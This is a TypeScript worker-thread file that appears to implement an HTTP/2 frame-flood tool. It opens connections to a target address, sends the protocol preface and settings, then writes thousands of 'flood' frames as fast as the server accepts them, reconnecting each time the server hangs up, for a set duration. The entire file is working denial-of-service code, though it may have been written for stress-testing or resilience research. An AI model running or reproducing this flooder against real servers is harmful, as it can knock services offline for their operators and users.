/** A thread that sends frames as fast as a server takes them. */
import { once } from "node:events";
import { createConnection } from "node:net";
import { workerData } from "node:worker_threads";
import { FLOODS, PREFACE, SETTINGS } from "./frames.js";

const FRAMES_AT_A_TIME = 1000;

const { address, kind, seconds } = workerData as { address: string; kind: string; seconds: number };
const [host, port] = address.split(":");
const until = performance.now() + 1000 * seconds;

// Whoever is hung up on comes back.
for (let connections = 0; performance.now() < until && connections < 1000; connections++) {
  const socket = createConnection({ host, port: Number(port) });
  const closed = new Promise((resolve) => socket.on("close", resolve));
  socket.on("error", () => {});
  socket.resume();
  socket.write(Buffer.concat([PREFACE, SETTINGS]));
  for (let i = 0; performance.now() < until && !socket.destroyed; i += FRAMES_AT_A_TIME) {
    const chunk = Buffer.concat(Array.from({ length: FRAMES_AT_A_TIME }, (_, j) => FLOODS[kind](i + j)));
    const drained = socket.write(chunk) ? undefined : once(socket, "drain").catch(() => {});
    const time = new Promise((resolve) => setTimeout(resolve, until - performance.now()));
    await Promise.race([drained, closed, drained && time]);
  }
  socket.destroy();
}
process.exit();
